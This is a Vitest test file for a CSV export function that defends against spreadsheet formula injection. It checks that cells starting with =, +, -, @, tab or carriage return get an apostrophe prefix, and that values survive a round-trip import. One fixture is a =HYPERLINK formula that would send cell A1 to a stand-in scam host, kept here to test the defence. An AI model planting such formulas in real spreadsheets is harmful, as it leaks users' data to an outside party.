import { describe, expect, it } from "vitest";
import { neutraliseFormula, readTable, writeCsv, type Column } from "./spreadsheet.js";

const columns: Column[] = [
  { header: "Mã", key: "code" },
  { header: "Giá trị", key: "value" },
  { header: "Ghi chú", key: "note" },
];

describe("CSV export against formula injection (OWASP)", () => {
  it("prefixes text a spreadsheet would run as a formula, and leaves numbers alone", () => {
    expect(["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "x=1", "-5 hộ"].map(neutraliseFormula)).toEqual([
      "'=1+1",
      "'+1",
      "'-x",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "''=x",
      "x=1",
      "'-5 hộ",
    ]);
    expect(neutraliseFormula(-5)).toBe(-5);
    expect(neutraliseFormula(null)).toBeNull();
  });

  it("writes a HYPERLINK note as text, and the import reads back the real values", async () => {
    const hyperlink = '=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm vào đây")';
    const rows = [
      { code: "a", value: -12.5, note: hyperlink },
      { code: "b", value: 3, note: "'=đã có nháy" },
      { code: "c", value: 0, note: "@ tổ 3" },
    ];
    const csv = writeCsv(columns, rows);
    const text = csv.toString("utf8");
    expect(text).toContain(`"'=HYPERLINK(""http://lua-dao.example/?d=""&A1,""Bấm vào đây"")"`);
    expect(text).toContain("a,-12.5,");
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    const read = await readTable(csv, columns);
    expect(read.map((r) => Object.fromEntries(r.cells))).toEqual([
      { code: "a", value: "-12.5", note: hyperlink },
      { code: "b", value: "3", note: "'=đã có nháy" },
      { code: "c", value: "0", note: "@ tổ 3" },
    ]);
  });
});
